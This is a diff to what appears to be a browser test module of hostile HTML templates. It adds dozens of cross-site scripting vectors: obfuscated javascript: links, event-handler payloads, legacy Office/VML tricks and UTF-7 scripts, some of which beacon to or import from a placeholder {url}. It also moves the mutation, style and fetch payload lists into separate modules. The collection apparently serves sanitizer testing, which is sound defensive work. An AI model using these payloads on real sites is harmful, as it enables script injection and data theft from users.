@@ -3,6 +3,9 @@
 `{js}` stands for a program that reports itself, `{url}` for an address that reports whoever asks for it.
 """
 
+from tests.browser.hostile_calls import FETCHES, STYLES
+from tests.browser.hostile_mutations import DEEP, MUTATIONS
+
 JS = "(new(Image)).src=`{url}`,console.log(`it-ran`)"
 """Needs neither quotes nor blanks nor angle brackets, so it stands in any place."""
 
@@ -31,6 +34,20 @@ SCRIPTS = """
 <math><script>{js}</script></math>
 <noscript><script>{js}</script></noscript>
 <noembed><script>{js}</script></noembed><plaintext><script>{js}</script>
+<script>/*<!--*/{js}/*-->*/</script>
+<svg><script>&#x28;new&#x28;Image&#x29;&#x29;&#x2e;src&#x3d;&#x60;{url}&#x60;</script></svg>
+<script type=text/vbscript>MsgBox 1</script><script language=jscript>{js}</script>
+<script async defer src=data:text/javascript,{js}></script>
+<script crossorigin integrity src="//{host}/x"></script>
+<svg><script type=text/javascript href=data:text/javascript,{js} /></svg>
+<!--[if mso]><xml><o:x xmlns:o="urn:schemas-microsoft-com:office:office"><script>{js}</script></o:x></xml><![endif]-->
+<![if !mso]><script>{js}</script><![endif]><!--[if !mso]><!--><img src=x onerror={js}><!--<![endif]-->
+<?xml:namespace prefix=t ns="urn:schemas-microsoft-com:time"?><t:set attributename=innerhtml to="<script>{js}</script>">
+<v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(#default#VML)" onmouseover={js}>a</v:shape>
+<h:script xmlns:h="http://www.w3.org/1999/xhtml">{js}</h:script><html:img src=x onerror={js} />
+<o:p><script>{js}</script></o:p><st1:place onmouseover={js}>a</st1:place>
+<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-
+<!doctype x [<!ENTITY y "<script>{js}</script>">]><p>&y;</p>
 """
 
 HANDLERS = """
@@ -78,6 +95,30 @@ onerror	=
 <font color="x" onmouseover="{js}" size="7">a</font>
 <p hx-on:load="{js}" hx-get="{url}" hx-trigger=load data-hx-get="{url}" hx-ext=x>a</p>
 <div data-live="{url}" data-live-part id=said data-said=1>a</div>
+<dialog open autofocus onfocus={js} onclose={js} oncancel={js}><form method=dialog><button
+autofocus>a</button></form></dialog>
+<button popovertarget=q autofocus onfocus={js}>a</button><p id=q popover=manual ontoggle={js}>b</p>
+<button commandfor=d command=show-modal autofocus>a</button><dialog id=d onbeforetoggle={js} oncommand={js}>b</dialog>
+<details name=d ontoggle={js}><summary autofocus onfocus={js}>a</summary>b</details>
+<p contenteditable autofocus onfocus={js} oninput={js} onbeforeinput={js} onpaste={js}>a</p>
+<p style="overflow:auto;height:9px" onscroll={js} onscrollend={js} tabindex=0 autofocus onfocusin={js}>a<br>b<br>c</p>
+<p style="transition:color 1s" ontransitionrun={js} ontransitionend={js} onpointerrawupdate={js}>a</p>
+<svg><set onbegin={js} attributeName=x to=1 begin=0s /><animateMotion onend={js} dur=1ms /><discard
+onbegin={js} /></svg>
+<svg><foreignObject><body onload={js}><img src=x onerror={js}></foreignObject></svg>
+<svg><a onfocus={js} tabindex=0 autofocus><text y=9>a</text></a></svg>
+<math><mtext onfocus={js} tabindex=0 autofocus>a</mtext></math>
+<form onformdata={js} oninvalid={js} onreset={js}><input required autofocus onfocusin={js}><input
+type=search onsearch={js}></form>
+<slot onslotchange={js} onfocus={js} tabindex=0 autofocus>a</slot>
+<body onhashchange={js} onmessage={js} onresize={js} onbeforeunload={js} onload={js}>
+<img src=x onerror=import(`{url}`)>
+<img src=x onerror="window.name=`it-ran`,location=`{url}`">
+<img src=x onerror="open(`{url}`,`_top`)"><img src=x onerror="parent.location=`{url}`">
+<img src=x onerror=alert(`it-ran`)>
+<embed src=x onload={js} onerror={js}><applet onerror={js} code=x></applet>
+<img src=x onload={js}onerror={js}><img src=x/onerror={js}/>
+<xss id=x tabindex=1 onactivate={js} onfocus={js} autofocus style=display:block>a</xss>
 """
 
 LINKS = """
@@ -118,115 +159,35 @@ LINKS = """
 <meta http-equiv=refresh content="0;url=javascript:{js}">
 <meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">
 <a href="/pile/" target=_top ping="{url}">a</a>
-"""
-
-MUTATIONS = """
-<noscript><p title="</noscript><img src=x onerror={js}>">
-<style><p title="</style><img src=x onerror={js}>"></style>
-<textarea><p title="</textarea><img src=x onerror={js}>">
-<title><p title="</title><img src=x onerror={js}>">
-<xmp><p title="</xmp><img src=x onerror={js}>">
-<iframe><p title="</iframe><img src=x onerror={js}>">
-<noembed><p title="</noembed><img src=x onerror={js}>">
-<svg></p><style><a id="</style><img src=x onerror={js}>">
-<svg><style><img src=x onerror={js}></style></svg>
-<svg><p><style><g title="</style><img src=x onerror={js}>">
-<svg><desc><noscript></desc></svg><p title="</noscript><img src=x onerror={js}>">
-<svg><foreignObject><p><style></p><img src=x onerror={js}></style></foreignObject></svg>
-<svg><title><svg><style><a title="</style><img src=x onerror={js}>"></svg></title></svg>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">
-<math><mi><p><mglyph><svg><mtext><style><a title="</style><img src=x onerror={js}>">
-<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>
-<math><annotation-xml encoding="text/html"><style><img src=x onerror={js}></style></annotation-xml></math>
-<math><annotation-xml encoding=x><svg><style><a title="</style><img src=x onerror={js}>">
-<select><style></select><img src=x onerror={js}></style>
-<table><caption><svg><style></caption></table><img src=x onerror={js}></style>
-<a><table><a href="javascript:{js}"><td><a>x
-<b><table><i><img src=x onerror={js}></b></table>
-<p><svg><p><img src=x onerror={js}>
-<option><style></option></select><img src=x onerror={js}></style>
-<img alt="<x" title="/><img src=x onerror={js}>">
-<a title='"><img src=x onerror={js}>'>a</a>
-<p title="&quot;&gt;&lt;img src=x onerror={js}&gt;">a</p>
-&lt;img src=x onerror={js}&gt; &amp;lt;script&amp;gt;
-<output class=x id="panel-1" name=body>[goes to bank.example]</output><img name=body src=x>
-<div><a href="https://x.example" title='"><script>{js}</script>'>www.y.example</a></div>
-"""
-
-STYLES = """
-<p style="background:url({url})">a</p>
-<p style="background-image: URL( '{url}' ) ; color:red">a</p>
-<p style="background:u\\72l({url})">a</p>
-<p style="background:/**/url/**/({url})">a</p>
-<p style="background:url(//{host}/x)">a</p>
-<p style="background-image:image-set('{url}' 1x, url({url}) 2x)">a</p>
-<p style="background-image:-webkit-image-set(url({url}) 1x)">a</p>
-<p style="background-image:cross-fade(url({url}), url({url}), 50%)">a</p>
-<p style="--u:url({url});background:var(--u)">a</p>
-<p style="list-style:url({url}) inside;display:list-item">a</p>
-<p style="cursor:url({url}),auto;border-image:url({url}) 1;mask:url({url});filter:url({url}#a)">a</p>
-<p style="content:url({url});shape-outside:url({url});clip-path:url({url}#x)">a</p>
-<p style="width:expression({js});behavior:url({url});-moz-binding:url({url}#x)">a</p>
-<p style="background:url(javascript:{js})">a</p>
-<p style="font-family:x;src:url({url})">a</p>
-<p style="position:fixed;inset:0;z-index:9;background:red">over everything</p>
-<p style='background:"};background:url({url})'>a</p>
-<p style="color:red;} @import '{url}'; p{">a</p>
-<style>@import "{url}";</style>
-<style>@import url({url}) layer(x) screen;</style>
-<style>@font-face{font-family:x;src:url({url})} p{font-family:x}</style><p>a</p>
-<style>p{background:url({url})} a[href^=h]{background:url({url})}</style><p>a <a href=https://x.example>b</a></p>
-<style>@namespace url({url}); @document url({url}){p{color:red}}</style>
-<style>:root{background:url({url})} ::selection{background:url({url})}</style>
-<link rel=stylesheet href="{url}"><link rel="alternate stylesheet" href="{url}" title=x>
-<STYLE>.x{behavior:url({url});background-image:url("javascript:{js}")}</STYLE><p class=x>a</p>
-"""
-
-FETCHES = """
-<img src="{url}">
-<img src=//{host}/x>
-<img src="&#104;ttp://{host}/x">
-<img src="\\\\{host}\\x">
-<img src="http:{host}/x">
-<img src=x srcset="{url} 1x, {url} 2x">
-<img src="{url}" loading=eager fetchpriority=high attributionsrc="{url}">
-<picture><source srcset="{url}"><img src=x></picture>
-<video poster="{url}" src="{url}" autoplay></video>
-<video autoplay muted><source src="{url}"><track default src="{url}"></video>
-<audio src="{url}" autoplay preload=auto></audio>
-<input type=image src="{url}">
-<object data="{url}" type="text/html"></object>
-<object><param name=movie value="{url}"><embed src="{url}"></object>
-<applet code=x codebase="{url}" archive="{url}"></applet>
-<iframe src="{url}"></iframe>
-<frameset><frame src="{url}"></frameset>
-<fencedframe config="{url}"></fencedframe><portal src="{url}"></portal>
-<bgsound src="{url}"><layer src="{url}"></layer><ilayer src="{url}"></ilayer>
-<body background="{url}">
-<table background="{url}"><tr background="{url}"><td background="{url}">a</table>
-<link rel=icon href="{url}"><link rel="apple-touch-icon" href="{url}">
-<link rel=preload as=image href="{url}"><link rel=preload as=fetch href="{url}">
-<link rel=prefetch href="{url}"><link rel=prerender href="{url}">
-<link rel=preconnect href="{url}"><link rel=dns-prefetch href="{url}">
-<link rel=modulepreload href="{url}"><link rel=manifest href="{url}"><link rel=import href="{url}">
-<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{url}"]}]}</script>
-<meta http-equiv=refresh content="0;url={url}">
-<meta http-equiv="refresh" content='0; URL="{url}"'><meta http-equiv=link content="<{url}>; rel=preload">
-<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {url}">
-<meta http-equiv="Set-Cookie" content="a=b"><meta name=referrer content=unsafe-url><img src="{url}">
-<base href="{url}/"><img src="relative.png"><a href="relative">a</a>
-<base target=_top><a href="{url}">a</a>
-<html manifest="{url}"><head profile="{url}"><p>a
-<svg><image href="{url}"/><image xlink:href="{url}"/></svg>
-<svg><use href="{url}#a"/><feImage href="{url}"/><font-face-uri href="{url}"/></svg>
-<svg><rect fill="url({url}#a)" filter="url({url}#b)" width=9 height=9 /></svg>
-<svg><style>@import url({url})</style><foreignObject><img src="{url}"></foreignObject></svg>
-<blockquote cite="{url}"><q cite="{url}">a</q></blockquote><img longdesc="{url}" usemap="{url}">
-<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'><image href='{url}'/></svg>">
-<img src="data:text/html,<script>{js}</script>"><img src="data:image/png;base64,<script>{js}</script>">
-<img src="cid:drawing"><img src="cid:page"><object data="cid:page"></object><iframe src="cid:page"></iframe>
-<img src="mhtml:{url}!x"><img src="file:///etc/passwd"><img src="filesystem:{url}"><img src="about:blank">
-<img src="/attachments/1/"><img src="/pile/"><img src="../../logout/">
+<a href="java&#x0A;script&#x09;:{js}">a</a>
+<a href="javascript&#0058;{js}">a</a><a href="javascript&#x3a{js}">a</a>
+<a href="&#x2028;javascript:{js}">a</a><a href="&#xA0;javascript:{js}">a</a>
+<a href="javas&ZeroWidthSpace;cript:{js}">a</a><a href="javascript&#xFF1A;{js}">a</a>
+<a href="j&#0;avascript:{js}">a</a><a href="&#x1F;&#x1B;javascript:{js}">a</a>
+<a href="vb&#10;script:MsgBox(1)">a</a><a href="livescript:{js}">a</a><a href="mocha:{js}">a</a>
+<a href="feed:javascript:{js}">a</a><a href="jar:{url}!/x">a</a><a href="intent:{url}#Intent;end">a</a>
+<a href="search-ms:query=x&amp;crumb=location:{url}">a</a><a href="ms-word:ofe|u|{url}">a</a>
+<a href="file://{host}/x">a</a><a href="\\\\{host}\\x">a</a><a href="ms-its:{url}::/x">a</a>
+<a href="DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>">a</a>
+<a href="data&#x3A;text/html;charset=utf-7,+ADw-script+AD4-{js}+ADw-/script+AD4-">a</a>
+<a href="blob:null/{url}">a</a><a href="filesystem:{url}">a</a><a href="about:srcdoc">a</a>
+<a href="{url}" target=_top>a</a><a href="{url}" target=_parent rel=opener>a</a><a href="{url}" target=sent-1>a</a>
+<a href="{url}" download=x.html type=text/html rel="opener prefetch">a</a>
+<a href="{url}" target="<img src='{url}'
+">a</a>
+<a id=location href="javascript:{js}">a</a><a id=location name=href href="javascript:{js}">b</a>
+<svg><animate href=#y attributeName=href to="javascript:{js}" fill=freeze /><a id=y><text y=9>a</text></a></svg>
+<svg><a><set attributeName=xlink:href to="javascript:{js}"/><text y=9>a</text></a></svg>
+<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{js}'/>#x"/></svg>
+<math><mrow href="javascript:{js}">a</mrow><mi xlink:href="javascript:{js}">b</mi></math>
+<form><button formaction="javascript:{js}" autofocus>a</button><input type=submit formaction="javascript:{js}"></form>
+<form action="{url}" target=_top><button formmethod=get formtarget=_parent>a</button></form>
+<iframe srcdoc='<meta http-equiv=refresh content="0;url={url}">'></iframe>
+<iframe src="data:text/html,<script>{js}</script>"></iframe><iframe src="java&Tab;script:{js}"></iframe>
+<object type=text/html data="data:text/html,<script>{js}</script>"></object>
+<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>">
+<object classid="clsid:x" codebase="{url}"><param name=src value="{url}"></object>
+<base href="{url}" target=_top><a href=x>a</a><form><button>b</button></form>
 """
 
 GROUPS = {
@@ -234,6 +195,7 @@ GROUPS = {
     "handler": HANDLERS,
     "link": LINKS,
     "mutation": MUTATIONS,
+    "deep": DEEP,
     "style": STYLES,
     "fetch": FETCHES,
 }
